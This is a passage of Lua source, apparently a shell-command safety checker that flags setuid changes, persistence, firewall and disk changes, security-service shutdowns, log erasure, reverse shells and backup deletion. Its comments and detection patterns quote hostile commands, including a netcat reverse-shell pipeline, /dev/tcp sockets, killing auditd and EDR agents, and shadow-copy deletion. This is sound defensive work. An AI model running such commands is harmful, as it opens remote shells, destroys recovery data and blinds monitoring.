  if any_arg(c, "(?i)^--?engine(?:=|$)|^--(?:default-auth|plugin-dir)(?:=|$)|dlopen|loadlibrary|cdll|fiddle")
    or (n == "enable" and flag(c, "f", nil)) then
    return true
  end
  if escape(c) then return true end
  local opts = RUNS_PROGRAM[n]
  if opts and any_arg(c, opts) then return true end
  if n == "nmap" and any_arg(c, "^--(?:interactive|script)") then return true end
  if PACKAGERS[n] then
    for _, a in ipairs(c.args) do
      if a.text:find("[=:]") and re.match(SHELL_REF, a.text) then return true end
    end
    return false
  end
  return any_arg(c, SHELL_REF)
end

local function setuid_mode(t)
  local oct = t:match("^([0-7]?)[0-7][0-7][0-7]$")
  if oct and oct ~= "" then
    local d = tonumber(oct)
    return d == 2 or d == 3 or d == 4 or d == 5 or d == 6 or d == 7
  end
  for clause in t:gmatch("[^,]+") do
    local who, op, perm = clause:match("^([ugoa]*)([+=])([rwxXst]*)$")
    if who and perm:find("s") and (who == "" or who:find("[uga]")) then return true end
  end
  return false
end

local function setuid(c)
  local n = c.name
  if n == "chmod" then
    for _, a in ipairs(c.args) do
      if not a.unknown and setuid_mode(a.text) then return true end
    end
  elseif n == "install" then
    for k, a in ipairs(c.args) do
      local m = a.text:match("^%-%-mode=(.*)$") or a.text:match("^%-m(.+)$")
      if not m and a.text == "-m" and c.args[k + 1] then m = c.args[k + 1].text end
      if m and setuid_mode(m) then return true end
    end
  elseif n == "setcap" then
    return not flag(c, "rv", "help")
  end
  return false
end

local UNIT_VERBS = set({ "enable", "disable", "reenable", "mask", "unmask", "link", "preset", "preset-all",
  "set-default", "edit", "add-wants", "add-requires", "revert" })
local UNIT_PLACES = { "/etc/systemd/", "/lib/systemd/", "/usr/lib/systemd/", "/run/systemd/system/",
  "/.config/systemd/", "/.local/share/systemd/", "/etc/init.d/", "/etc/rc.local", "/etc/rc%d?%.d/",
  "/etc/xdg/autostart/", "/.config/autostart/", "/Library/LaunchAgents/", "/Library/LaunchDaemons/",
  "/etc/ld.so.preload", "/etc/update%-motd.d/", "/etc/init/", "/etc/inittab", "/etc/profile.d/" }
local function persistence(c, cwd)
  local n = c.name
  if n == "systemctl" then
    local verb = systemctl(c)
    if UNIT_VERBS[verb or ""] then return true end
  elseif n == "launchctl" then
    local _, ts = operands(c)
    local v = ts[1] or ""
    return v == "load" or v == "bootstrap" or v == "enable" or v == "submit" or v == "unload" or v == "bootout"
      or v == "disable"
  elseif n == "defaults" then
    -- macOS's login and logout hooks: a script run as root at every login
    -- (defaults write com.apple.loginwindow LoginHook /path/x.sh)
    local _, ts = operands(c)
    if ts[1] == "write" and (ts[2] or ""):find("loginwindow", 1, true) then
      return ts[3] == "loginhook" or ts[3] == "logouthook"
    end
  elseif n == "update-rc.d" or n == "rc-update" or n == "systemd-run" then
    return n ~= "systemd-run" or flag(c, nil, "on-calendar on-boot on-startup on-active timer-property")
  elseif n == "chkconfig" then
    local _, ts = operands(c)
    return #ts >= 2 or flag(c, nil, "add del")
  end
  -- a shell start-up file named by a program that may write it (gawk
  -- 'BEGIN { print "x" > "~/.bashrc" }', sort -o ~/.bashrc, nmap -oG=…)
  if mentions(c, STARTUP_RE) or writes_guarded(c, STARTUP_RE) then return true end
  return has_outside(c, cwd) and touches(c, cwd, function(abs)
    local p = "/" .. abs .. "/"
    for _, u in ipairs(UNIT_PLACES) do
      if p:find(u) then return true end
    end
    return startup(abs)
  end)
end

local function ssh_keys(c, cwd)
  if c.name == "ssh-copy-id" or mentions(c, AUTHKEYS_RE) or writes_guarded(c, AUTHKEYS_RE) then return true end
  for _, t in ipairs((outside(c, cwd))) do
    local w = t[1]
    if w.text:find("authorized_keys2?$") then
      -- a key file of the project's own (a test fixture) is its business
      local abs = place(w, cwd)
      if not (abs and project(abs, cwd)) then return true end
    end
  end
  return false
end

local CRON_PLACES = { "/etc/cron", "/var/spool/cron", "/etc/anacrontab", "/var/spool/anacron", "/var/at",
  "/var/spool/at", "/usr/lib/cron/tabs", "/var/cron" }
local function cron(c, cwd)
  local n = c.name
  if n == "crontab" then
    if flag(c, "l", "list help") then return false end
    local o = shell.options(c.args, { short_arg = { u = "user" } })
    return flag(c, "rei", nil) or #o.operands > 0 or c.pipe_in or #c.redirs > 0
  elseif n == "at" or n == "batch" then
    return not flag(c, "lcdrV", "help")
  end
  return has_outside(c, cwd) and touches(c, cwd, function(abs)
    for _, p in ipairs(CRON_PLACES) do
      if abs:sub(1, #p) == p then return true end
    end
    return false
  end)
end

local IPTABLES = set({ "iptables", "ip6tables", "iptables-legacy", "ip6tables-legacy", "iptables-nft",
  "ip6tables-nft", "ebtables", "arptables", "xtables-legacy-multi", "xtables-nft-multi" })
local function firewall(c)
  local n = c.name
  if IPTABLES[n] then
    return flag(c, "AIDRFXPNEZ", "append insert delete replace flush delete-chain policy new-chain rename-chain zero")
  elseif n == "iptables-restore" or n == "ip6tables-restore" or n == "iptables-legacy-restore"
    or n == "iptables-nft-restore" then
    return not flag(c, "th", "test help")
  elseif n == "nft" then
    local _, ts = operands(c)
    if flag(c, "f", "file") and not flag(c, "c", "check") then return true end
    local v = ts[1] or ""
    return not (v == "" or v == "list" or v == "describe" or v == "monitor" or v == "get" or v == "help")
      and not flag(c, "cv", "check version help")
  elseif n == "ufw" then
    local _, ts = operands(c)
    local v = ts[1] or ""
    return not (v == "" or v == "status" or v == "show" or v == "version" or v == "enable" or v == "help"
      or (v == "app" and (ts[2] == "list" or ts[2] == "info")))
      and not flag(c, nil, "dry-run help version")
  elseif n == "firewall-cmd" or n == "firewall-offline-cmd" then
    for _, a in ipairs(c.args) do
      local t = a.text
      if t:sub(1, 2) == "--" and not (t:find("^%-%-list") or t:find("^%-%-get") or t:find("^%-%-query")
        or t:find("^%-%-info") or t:find("^%-%-state") or t == "--reload" or t == "--complete-reload"
        or t:find("^%-%-zone") or t == "--permanent" or t == "--help" or t == "--version"
        or t:find("^%-%-check")) then
        return true
      end
    end
  elseif n == "pfctl" then
    -- off, flushed, or rules loaded (pfctl -f FILE, pfctl -a anchor -f -); -n only parses
    return flag(c, "dF", "disable flush") or (flag(c, "f", "file") and not flag(c, "n", "noaction"))
  elseif n == "socketfilterfw" then
    -- macOS's application firewall: off, stealth or block-all off, a
    -- program let in (--getglobalstate, --listapps pass)
    return any_arg(c, "^--(?:setglobalstate|setblockall|setstealthmode|setallowsigned|setallowsignedapp|add|" ..
      "unblockapp|remove|setloggingmode)") and not any_arg(c, "^on$")
  elseif n == "defaults" then
    -- the same firewall through its preferences (com.apple.alf globalstate 0)
    local _, ts = operands(c)
    return (ts[1] == "write" or ts[1] == "delete") and (ts[2] or ""):find("com%.apple%.alf") ~= nil
  elseif n == "netsh" then
    for _, a in ipairs(c.args) do
      if a.text:lower():find("firewall") then
        return any_arg(c, "(?i)^(?:off|reset|disable|delete|set|add)$")
      end
    end
  end
  return false
end

local PARTITIONERS = set({ "fdisk", "sfdisk", "cfdisk", "gdisk", "cgdisk", "sgdisk", "parted", "gparted",
  "partprobe", "diskutil", "blkdiscard", "mdadm", "cryptsetup", "hdparm", "nvme", "sg_format", "dmsetup", "gpart" })
local disks
do
  -- image reports whether every operand of a formatter names a file inside
  -- the project (mkfs.ext4 -F ./rootfs.img builds a file system in an image
  -- file): no device, nothing unknown, nothing outside.
  local function image(c, cwd)
    -- after a cd the operands are relative to a folder not read here;
    -- wipefs erases what identifies a disk, image or not
    if c.dir or c.name == "wipefs" then return false end
    local any = false
    for _, a in ipairs(c.args) do
      if a.unknown or a.glob then return false end
      if a.text:sub(1, 1) ~= "-" then
        local abs = place(a, cwd)
        if not abs or abs:find("^/dev/") or not project(abs, cwd) then return false end
        any = true
      end
    end
    return any
  end

  function disks(c, cwd)
    local n = c.name
    if danger.writes_disk(c) or (danger.formats_disk(c) and not image(c, cwd)) then
      return not (n == "wipefs" and not flag(c, "ao", "all offset"))
    end
    -- a command the line does not name (an assignment, $PROG): no more here
    if not n then return false end
    if n == "btrfs" then
      -- a device removed, replaced or added, a repair, a resize, a rescue
      local _, ts = operands(c)
      local a, b = ts[1] or "", ts[2] or ""
      return (a:find("^dev") and (b:find("^rem") or b:find("^del") or b:find("^rep") or b:find("^add"))) ~= nil
        or (a:find("^che") ~= nil and flag(c, nil, "repair init-csum-tree init-extent-tree clear-space-cache"))
        or a:find("^resc") ~= nil or (a:find("^fi") ~= nil and b:find("^resi") ~= nil)
    elseif n == "nbd-client" then
      return flag(c, "dD", "disconnect")
    elseif n == "pvmove" or n == "pvcreate" or n == "vgreduce" or n == "vgsplit" or n == "vgmerge" or n == "resize2fs"
      or n == "xfs_repair" then
      return not flag(c, "n", "help version")
    elseif n == "losetup" then
      return flag(c, "dD", "detach detach-all")
    elseif n == "tune2fs" then
      return not flag(c, "l", "help")
    elseif n == "e2fsck" or n == "fsck" or n:find("^fsck%.") then
      -- a repair of a device; -n only reads
      for _, a in ipairs(c.args) do
        if a.text:sub(1, 1) == "/" and paths.clean(a.text):find("^/dev/") then return not flag(c, "nN", "help") end
      end
      return false
    end
    if not PARTITIONERS[n] then return false end
    local _, ts = operands(c)
    if n == "fdisk" or n == "cfdisk" or n == "gdisk" or n == "cgdisk" then
      return not flag(c, "lsV", "list getsz version help")
    elseif n == "sfdisk" then
      return not flag(c, "lsdgJV", "list show-size dump show-geometry json verify version help list-types list-free")
    elseif n == "sgdisk" then
      return not (flag(c, "piLOv", "print info list-types print-mbr verify version help")
        and not flag(c, "nodtczZgGcCNrRsxaABfFhl", "new delete typecode clear zap zap-all mbrtogpt change-name " ..
          "transform-bsd randomize-guids replicate load-backup backup"))
    elseif n == "parted" or n == "gparted" then
      if n == "gparted" then return true end
      if flag(c, "lv", "list version help") then return false end
      for _, t in ipairs(ts) do
        if t == "print" or t == "p" then return false end
      end
      return true
    elseif n == "partprobe" then
      return false
    elseif n == "diskutil" then
      local v = ts[1] or ""
      if v == "quiet" then v = ts[2] or "" end
      return v:find("^erase") ~= nil or v:find("^partition") ~= nil or v:find("^zero") ~= nil
        or v:find("^secure") ~= nil or v == "apfs" and (ts[2] or ""):find("^delete") ~= nil
    elseif n == "mdadm" then
      return flag(c, "CS", "create zero-superblock stop remove fail")
    elseif n == "cryptsetup" then
      for _, t in ipairs(ts) do
        if t == "luksformat" or t == "erase" or t == "lukserase" or t == "lukskillslot" or t == "luksremovekey"
          or t == "reencrypt" then
          return true
        end
      end
    elseif n == "hdparm" then
      return any_arg(c, "^--(?:security-erase|security-erase-enhanced|trim-sector-ranges|write-sector|make-bad-sector)")
    elseif n == "nvme" then
      return ts[1] == "format" or ts[1] == "sanitize" or ts[1] == "delete-ns"
    elseif n == "sg_format" then
      return flag(c, "F", "format")
    elseif n == "dmsetup" then
      return ts[1] == "remove" or ts[1] == "remove_all" or ts[1] == "wipe_table"
    elseif n == "gpart" then
      return ts[1] == "destroy" or ts[1] == "delete" or ts[1] == "create" or ts[1] == "add"
    end
    return false
  end
end

local function kernel(c, cwd)
  local n = c.name
  if n == "insmod" or n == "rmmod" then
    return not flag(c, "V", "help version")
  elseif n == "modprobe" then
    return not flag(c, "ncDRV", "dry-run show showconfig show-config show-depends resolve-alias help version " ..
      "show-modversions dump-modversions")
  elseif n == "kexec" then
    return flag(c, "lep", "load exec load-panic")
  elseif n == "kextload" or n == "kextunload" then
    -- macOS kernel extensions
    return not flag(c, nil, "help")
  elseif n == "kmutil" then
    local _, ts = operands(c)
    local v = ts[1] or ""
    return v == "load" or v == "unload" or v == "install" or v == "create" or v == "trigger-panic-medic"
      or v == "rebuild" or v == "clear-staging"
  elseif n == "sysctl" then
    if flag(c, "wp", "write load system") then return true end
    for _, a in ipairs(c.args) do
      if a.text:find("^[%w_.%-/]+=") then return true end
    end
    return false
  end
  return has_outside(c, cwd) and touches(c, cwd, function(abs, kind)
    return paths.inside(abs, "/proc/sys") or (paths.inside(abs, "/sys") and kind ~= "delete")
  end)
end

-- mounts: remounting a folder of the system (mount -o remount,rw /), a
-- mount over one (mount --bind x /etc), or its unmount. Listing the mounts
-- and mounting a device on a folder of one's own pass.
local function mounts(c, cwd)
  local n = c.name
  if n ~= "mount" and n ~= "umount" and n ~= "umount2" then return false end
  if flag(c, nil, "help version") then return false end
  if n == "mount" and any_arg(c, "(?:^|,)remount(?:,|$)") then return true end
  local ws = operands(c)
  for k, w in ipairs(ws) do
    local abs = place(w, cwd)
    -- mount's last operand is where it mounts; umount's every operand
    if abs and (n ~= "mount" or k == #ws) and not project(abs, cwd)
      and (abs == "/" or under(abs, SETTINGS.system_folders)) and not under(abs, SETTINGS.writable) then
      return true
    end
  end
  return false
end

-- share: a folder shared over the network: net share NAME=PATH (Windows),
-- net usershare add (Samba), New-SmbShare, Grant-SmbShareAccess,
-- Set-SmbShare, exportfs -o/-i or of host:/path (NFS). Listing shares
-- (net share, Get-SmbShare, exportfs -v) passes.
local function share(c)
  local n = c.name
  if n == "net" or n == "net1" or n == "net.exe" then
    local a1 = c.args[1] and c.args[1].text:lower()
    if a1 == "share" then
      for k = 2, #c.args do
        if c.args[k].text:find("=") and not c.args[k].text:find("^/") then return true end
      end
    elseif a1 == "usershare" then
      return c.args[2] ~= nil and c.args[2].text == "add"
    end
    return false
  elseif n == "new-smbshare" or n == "grant-smbshareaccess" or n == "set-smbshare" then
    return true
  elseif n == "exportfs" then
    if flag(c, "oi", nil) then return true end
    for _, a in ipairs(c.args) do
      if a.text:find("^[^-][^:]*:/") then return true end
    end
  end
  return false
end

local function boot(c)
  local n = c.name
  if n == "grub-install" or n == "grub2-install" or n == "update-grub" or n == "update-grub2"
    or n == "grub-reboot" or n == "grub-set-default" or n == "grub2-set-default" or n == "grubby" then
    return not flag(c, nil, "help version info default-kernel default-index default-title")
  elseif n == "grub-mkconfig" or n == "grub2-mkconfig" then
    return flag(c, "o", "output")
  elseif n == "efibootmgr" then
    return flag(c, "BcoOnNaAbw", "delete-bootnum create bootorder delete-bootorder bootnext delete-bootnext " ..
      "active inactive bootnum write-signature create-only")
  elseif n == "bootctl" then
    local _, ts = operands(c)
    local v = ts[1] or ""
    return v == "install" or v == "remove" or v == "update" or v == "set-default" or v == "set-oneshot"
      or v == "unlink" or v == "cleanup"
  elseif n == "nvram" then
    -- macOS firmware variables (boot-args, the startup disk): a write
    -- (name=value), a delete (-d) or a clear (-c); -p and -x print
    for _, a in ipairs(c.args) do
      if a.text:find("=") and a.text:sub(1, 1) ~= "-" then return true end
    end
    return flag(c, "dcf", nil)
  elseif n == "bless" then
    return flag(c, nil, "setBoot mount folder device")
  elseif n == "bcdedit" or n == "bcdedit.exe" then
    return any_arg(c, "(?i)^/(?:set|delete|deletevalue|create|import|default|bootsequence)$")
  end
  return false
end

local function audit(c)
  if c.name ~= "auditctl" then return false end
  if flag(c, "DdW", "delete") then return true end
  for k, a in ipairs(c.args) do
    if a.text == "-e" and c.args[k + 1] and c.args[k + 1].text == "0" then return true end
    if a.text == "-e0" then return true end
    if (a.text == "-a" or a.text == "-A") and c.args[k + 1] and c.args[k + 1].text:find("never") then return true end
  end
  return false
end

local function mac(c)
  local n = c.name
  if n == "setenforce" then
    local _, ts = operands(c)
    return ts[1] ~= "1" and ts[1] ~= "enforcing"
  elseif n == "setsebool" or n == "aa-teardown" or n == "aa-disable" or n == "aa-complain" or n == "aa-audit" then
    return not flag(c, nil, "help")
  elseif n == "semanage" then
    local _, ts = operands(c)
    return ts[1] == "permissive" or flag(c, nil, "delete deleteall")
  elseif n == "semodule" then
    return flag(c, "dr", "disable remove")
  elseif n == "apparmor_parser" then
    return flag(c, "R", "remove")
  elseif n == "spctl" then
    -- macOS Gatekeeper off, or a program let past it
    return flag(c, nil, "master-disable global-disable disable add remove")
  elseif n == "xattr" then
    -- a download's quarantine mark removed: Gatekeeper never checks it
    -- (xattr -d com.apple.quarantine, -dr, -c: every mark cleared)
    for _, a in ipairs(c.args) do
      if a.text:lower():find("com%.apple%.quarantine") and flag(c, "d", "delete") then return true end
    end
    return flag(c, "c", "clear")
  elseif n == "csrutil" then
    -- macOS System Integrity Protection off
    local _, ts = operands(c)
    for _, t in ipairs(ts) do
      if t == "disable" or t == "clear" then return true end
    end
  end
  return false
end

local STOP_VERBS = set({ "stop", "disable", "mask", "kill", "freeze" })
local KILLERS = set({ "kill", "pkill", "killall", "skill" })
local function stops(c, services)
  local n = c.name
  if n == "systemctl" then
    local verb, units = systemctl(c)
    if STOP_VERBS[verb or ""] then
      for _, u in ipairs(units) do
        if services[u] then return true end
      end
    end
    return false
  elseif KILLERS[n] then
    local ws, ts = operands(c)
    for _, t in ipairs(ts) do
      if services[unit(shell.basename(t))] then return true end
    end
    -- kill $(pidof auditd), kill `pgrep falcon-sensor`
    local hit = false
    for _, w in ipairs(ws) do
      shell.producers(w, function(p)
        if p.name == "pidof" or p.name == "pgrep" then
          local _, pts = operands(p)
          for _, t in ipairs(pts) do hit = hit or services[unit(shell.basename(t))] == true end
        end
      end)
    end
    return hit
  end
  if n == "sysrc" then
    -- FreeBSD: sysrc NAME_enable=NO keeps the service off at boot
    local _, ts = operands(c)
    for _, t in ipairs(ts) do
      local name, v = t:match("^([%w_.-]+)_enable%+?=(.*)$")
      v = v and v:gsub("[\"']", "")
      if name and services[unit(name)] and (v == "no" or v == "false" or v == "off" or v == "0") then return true end
    end
    return false
  end
  if not (n == "service" or n == "rc-service" or n == "invoke-rc.d" or n == "update-rc.d" or n == "chkconfig" or n == "rc-update"
    or (c.word and c.word.text:find("^/etc/init%.d/"))) then
    return false
  end
  local name, action = service(c)
  if name and services[name] then
    action = action or ""
    return action == "stop" or action == "disable" or action == "remove" or action == "off" or action == "del"
      or action == "delete" or action == "force-stop" or action == "-f"
  end
  return false
end

local function security_services(c)
  local n = c.name
  if n == "mdatp" then
    -- Microsoft Defender for Endpoint (Linux, macOS): a protection set off,
    -- an exclusion added, the agent removed
    local _, ts = operands(c)
    local j = table.concat(ts, " ")
    return (j:find("^config") ~= nil and (j:find("disabled") ~= nil or j:find(" off") ~= nil or j:find("false") ~= nil))
      or (j:find("^exclusion") ~= nil and j:find(" add") ~= nil) or ts[1] == "uninstall"
  end
  return stops(c, SECURITY)
end
local function services(c) return stops(c, CRITICAL) end

local function logs(c, cwd)
  local n = c.name
  if n == "log" then
    -- macOS's unified log: log erase
    local _, ts = operands(c)
    return ts[1] == "erase"
  elseif n == "osascript" then
    -- AppleScript deleting a log file (do shell script "rm /var/log/…", Finder's delete)
    return any_arg(c, "(?i)(?:/private)?/var/log|/Library/Logs") and any_arg(c, "(?i)\\b(?:rm|delete|truncate|mv|shred)\\b")
  elseif n == "journalctl" then
    return any_arg(c, "^--vacuum")
  elseif n == "dmesg" then
    return flag(c, "cC", "clear read-clear")
  end
  return has_outside(c, cwd) and touches(c, cwd, function(abs, kind)
    return kind ~= "append" and (paths.inside(abs, "/var/log") or paths.inside(abs, "/var/adm")
      or paths.inside(abs, "/Library/Logs") or paths.inside(abs, "/private/var/log"))
  end)
end

-- A host that is the machine itself.
function loopback(h)
  h = h:lower()
  return h == "localhost" or h:find("^127%.") ~= nil or h == "::1" or h == "0.0.0.0" or h == "[::1]"
end

-- raw_socket reports whether a word names /dev/tcp or /dev/udp to another host.
local function raw_socket(w)
  local host = w.text:match("/dev/[tu][cd]p/([^/]*)")
  if not host then return false end
  return host:find("\0") ~= nil or not loopback(host)
end

local NETCAT = set({ "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "telnet", "socat", "ztcp",
  "openssl", "sbd", "cryptcat" })
local SOCKET_CODE = "(?i)socket|fsockopen|TCPClient|TCPSocket|UDPSocket|net\\.connect|createConnection|" ..
  "require\\(\\s*['\"]net['\"]\\s*\\)|/dev/tcp/|/inet/tcp|LuaSocket|stream_socket_client|" ..
  "\\bnc\\s+-[a-z]*e|ncat\\s|socat\\s"
local EXEC_CODE = "(?i)dup2|pty|spawn|popen|proc_open|shell_exec|passthru|child_process|os\\.execute|" ..
  "\\bexec\\b|\\bsystem\\s*[(\"'$]|iex\\b|invoke-expression|GetStream|subprocess|fdopen|/bin/|cmd\\.exe|" ..
  "\\brun\\s*\\(\\s*(?:pipeline\\s*\\(\\s*)?`"

local function reverse_shell(c, cwd, ctx)
  local n = c.name
  for _, r in ipairs(c.redirs) do
    if raw_socket(r.target) then return true end
  end
  for _, a in ipairs(c.args) do
    if raw_socket(a) then return true end
  end
  if not n then return false end
  if n == "nc" or n == "ncat" or n == "netcat" or n == "nc.traditional" or n == "nc.openbsd" or n == "sbd"
    or n == "cryptcat" or n == "pwncat" then
    if flag(c, "ec", "exec sh-exec lua-exec") then return true end
  elseif n == "socat" then
    local exec, net = false, false
    for _, a in ipairs(c.args) do
      local t = a.text:lower()
      if t:find("^exec:") or t:find("^system:") or t:find("^exec,") then exec = true end
      if t:find("^tcp") or t:find("^udp") or t:find("^ssl") or t:find("^openssl") or t:find("^sctp")
        or t:find("^socks") or t:find("^proxy") or t:find("^ip%d?[-:]") then
        net = true
      end
    end
    if exec and net then return true end
  elseif (n == "awk" or n == "gawk") and any_arg(c, "/inet[46]?/(?:tcp|udp)/") then
    return true
  end
  if shell.interpreter(n) and not SHELLS[n] then
    local code = {}
    for _, a in ipairs(c.args) do code[#code + 1] = a.text end
    code = table.concat(code, " ")
    if re.match("(?i)pty\\.spawn|pty\\.fork", code) then return true end
    if re.match(SOCKET_CODE, code) and re.match(EXEC_CODE, code) then return true end
  end
  -- a shell and a raw network client in one pipeline (mkfifo f; cat f | sh -i | nc h p > f)
  -- (a shell reading its pipe, or an interactive one: sh -i < fifo | openssl s_client …)
  if c.pipeline and (NETCAT[n] or (SHELLS[n] and c.reads_stdin and (not c.script or flag(c, "i", nil)))) then
    for _, o in ipairs(ctx.cmds) do
      if o ~= c and o.pipeline == c.pipeline and o.depth == c.depth and o.name then
        if NETCAT[n] and SHELLS[o.name] and o.reads_stdin and (not o.script or flag(o, "i", nil)) then return true end
        if SHELLS[n] and NETCAT[o.name] then return true end
      end
    end
  end
  return false
end

local function backup_word(w)
  if w.unknown then return false end
  for part in w.text:gmatch("[^/]+") do
    if BACKUPS[part:lower()] then return true end
  end
  return false
end

local RECOVERY_TOOLS = set({ "lvremove", "vgremove", "pvremove", "lvreduce", "zfs", "zpool", "btrfs", "timeshift",
  "snapper", "tmutil", "vssadmin", "vssadmin.exe", "wmic", "wmic.exe", "wbadmin",
  "wbadmin.exe" })
local function recovery(c, cwd)
  local n = c.name
  local ts = RECOVERY_TOOLS[n or ""] and select(2, operands(c))
  if not ts then
    -- not a snapshot or backup tool: only its deletes are read, below
  elseif n == "lvremove" or n == "vgremove" or n == "pvremove" or n == "lvreduce" then
    return not flag(c, nil, "help version")
  elseif n == "zfs" or n == "zpool" then
    return ts[1] == "destroy" or (n == "zfs" and ts[1] == "rollback" and flag(c, "rR", nil))
      or (n == "zpool" and (ts[1] == "labelclear"))
  elseif n == "btrfs" then
    return (ts[1] or ""):find("^sub") ~= nil and (ts[2] or ""):find("^del") ~= nil
  elseif n == "timeshift" then
    return flag(c, nil, "delete delete-all")
  elseif n == "snapper" then
    for _, t in ipairs(ts) do
      if t == "delete" or t == "remove" or t == "rm" or t == "delete-config" then return true end
    end
  elseif n == "tmutil" then
    local v = ts[1] or ""
    return v == "delete" or v == "deletelocalsnapshots" or v == "disable" or v == "thinlocalsnapshots"
      or v == "disablelocal" or v == "removedestination"
  elseif n == "vssadmin" or n == "vssadmin.exe" then
    return ts[1] == "delete" or ts[1] == "resize"
  elseif n == "wmic" or n == "wmic.exe" then
    local joined = table.concat(ts, " ")
    return joined:find("shadowcopy") ~= nil and joined:find("delete") ~= nil
  elseif n == "wbadmin" or n == "wbadmin.exe" then
    return ts[1] == "delete" or ts[1] == "disable"
  end
  -- a backup folder's removal anywhere; a single backup file's outside the
  -- project (a project's own backups/old.sql is its business)
  local all = outside(c, cwd)
  local recursive = n == "find" or (REMOVERS[n or ""] and flag(c, "rR", "recursive"))
  for _, t in ipairs(all) do
    if t[2] == "delete" and backup_word(t[1]) then
      if recursive then return true end
      local abs = place(t[1], cwd)
      if not (abs and project(abs, cwd)) then return true end
    end
  end
  return false
end

local function system_files(c, cwd)
  return has_outside(c, cwd) and touches(c, cwd, function(abs, kind)
    return under(abs, SETTINGS.system_folders) and not under(abs, SETTINGS.writable)
  end)
end

-- package_file: a package file of the caller's installed with privilege
-- (sudo dpkg -i x.deb, sudo rpm -ivh x.rpm, sudo yum localinstall x.rpm,
-- sudo apt install ./x.deb): its scripts run as root and are not read.
-- Packages from the configured repositories are the packages pack's.
local PKG_FILE = "(?i)\\.(?:deb|rpm|apk|pkg|pkg\\.tar\\.(?:zst|xz|gz)|snap|msi)$"
local function package_file(c)
  if not privileged(c) then return false end
  local n = c.name
  if n == "dpkg" then
    return flag(c, "i", "install unpack")
  elseif n == "rpm" then
    return flag(c, "iUF", "install upgrade freshen reinstall") and not flag(c, "qVe", "query verify erase")
  elseif n == "yum" or n == "dnf" or n == "zypper" or n == "apt" or n == "apt-get" or n == "pacman" or n == "snap"
    or n == "installer" or n == "pkg" then
    return any_arg(c, PKG_FILE) or (n == "yum" and any_arg(c, "^local(?:install|update)$"))
      or (n == "snap" and flag(c, nil, "dangerous devmode"))
  end
  return false
end

-- root_server: a file server or proxy run with privilege, which hands
-- root's files (or the cluster's API) to whoever connects: php -S, ruby
-- -run -e httpd, busybox httpd, python -m http.server, kubectl proxy.
local function root_server(c)
  if not privileged(c) then return false end
  local n = c.name or ""
  if n == "php" or n:find("^php%d") then return flag(c, "S", nil) end
  if n == "httpd" or n == "webfsd" or n == "darkhttpd" or n == "http-server" then return true end
  if n == "kubectl" then return select(2, operands(c))[1] == "proxy" end
  if shell.interpreter(n) then
    return any_arg(c, "^(?:-run|http\\.server|SimpleHTTPServer|httpd)$") and any_arg(c, "^(?:-m|-run|-e|httpd|http\\.server|SimpleHTTPServer)$")
  end
  return false
end

-- as-root: any other command run as root (sudo, doas, pkexec, run0 with
-- no user named, or root named), but one of SETTINGS.as_root_reads.

-- READS maps a program to the patterns of SETTINGS.as_root_reads that
-- name it: a list of words, each an operand in turn ("*" any, "$" no
-- more) or an option given anywhere; an empty list is any use.
local READS = {}
for _, entry in ipairs(SETTINGS.as_root_reads) do
  local prog, words = nil, {}
  for w in string.gmatch(tostring(entry), "%S+") do
    if prog then words[#words + 1] = w else prog = w end
  end
  if prog then
    local list = READS[prog] or {}
    list[#list + 1] = words
    READS[prog] = list
  end
end

-- The options of these programs that take a value, skipped when their
-- operands are read (git -C dir status, docker -H host ps).
local VALUE_OPTS = {
  git = set({ "-C", "-c", "--git-dir", "--work-tree", "--namespace" }),
  docker = set({ "-H", "--host", "--context", "-c", "--config", "-l", "--log-level" }),
  podman = set({ "--url", "--connection", "-c", "--root", "--runroot" }),
  kubectl = set({ "-n", "--namespace", "--context", "--kubeconfig", "--cluster", "--user", "-s", "--server" }),
  systemctl = SYSTEMCTL_ARG,
  apt = set({ "-o", "-t", "-c" }),
  ["apt-get"] = set({ "-o", "-t", "-c" }),
  ip = set({ "-n", "-netns", "-f", "-family", "-b", "-batch" }),
}

-- operand_list returns c's operands, lower-cased, the values of its
-- program's options in VALUE_OPTS left out.
local function operand_list(c)
  local skip = VALUE_OPTS[c.name]
  local ts, k = {}, 1
  while c.args[k] do
    local a = c.args[k]
    local t = a.text
    if skip and skip[t] then
      k = k + 1
    elseif a.unknown or t:sub(1, 1) ~= "-" then
      ts[#ts + 1] = t:lower()
    end
    k = k + 1
  end
  return ts
end

-- reads_pattern reports whether c matches one pattern of READS.
local function reads_pattern(c, words, ts)
  local k = 1
  for _, w in ipairs(words) do
    if w == "$" then
      if ts[k] then return false end
    elseif w:sub(1, 2) == "--" then
      if not flag(c, nil, w:sub(3)) then return false end
    elseif w:sub(1, 1) == "-" and #w == 2 then
      if not flag(c, w:sub(2), nil) then return false end
    elseif w:sub(1, 1) == "-" then
      if not any_arg(c, "^" .. re.quote(w) .. "$") then return false end
    else
      if not ts[k] or (w ~= "*" and ts[k] ~= w) then return false end
      k = k + 1
    end
  end
  return true
end

-- root_reads reports whether c, run as root, only reads (SETTINGS.as_root_reads),
-- only changes the project's own files' owners and modes or removes them,
-- or is a shell or find whose commands are each judged on their own.
local FIND_WRITES = "^-(?:delete|fprint0?|fprintf|fls)$"
local SYSTEM_PACKAGERS = set({ "apt", "apt-get", "aptitude", "dnf", "yum", "microdnf", "zypper", "pacman", "apk",
  "snap", "flatpak", "emerge", "xbps-install", "xbps-remove", "port", "pkg", "pkgin", "swupd", "eopkg", "nix-env" })
local PROJECT_CHANGERS = set({ "chown", "chgrp", "chmod", "chattr", "setfacl", "rm", "rmdir", "unlink", "mkdir",
  "touch" })
local function root_reads(c, cwd, made)
  local n = c.name
  if not n then return false end
  if PROJECT_CHANGERS[n] and not c.dir then
    -- owners, modes and removals of the project's own files (sudo chown -R
    -- dev ., sudo rm -rf build left by a container), or of a folder the
    -- line made (sudo mkdir -p /opt/app && sudo chown dev /opt/app): every
    -- target known and inside the project or such a folder; a folder made
    -- (the system's are system-files')
    local all = outside(c, cwd)
    -- chown's owner, chmod's mode: not a file
    local spec = (n == "chown" or n == "chgrp" or n == "chmod") and not any_arg(c, "^--reference") and operands(c)[1]
    local files = 0
    for _, t in ipairs(all) do
      if t[1] ~= spec then
        local abs = place(t[1], cwd)
        if not abs then return false end
        if n == "mkdir" then
          made[#made + 1] = abs
        elseif not (project(abs, cwd) or (n ~= "rm" and n ~= "rmdir" and n ~= "unlink" and under(abs, made))) then
          return false
        end
        files = files + 1
      end
    end
    return files > 0
  end
  if SHELLS[n] then
    -- its code is on the line (sh -c '…', a here-document, echo … | sh):
    -- its commands are judged one by one; a script file is not read
    if c.computed then return false end
    if c.inline then return true end
    if c.script then return false end
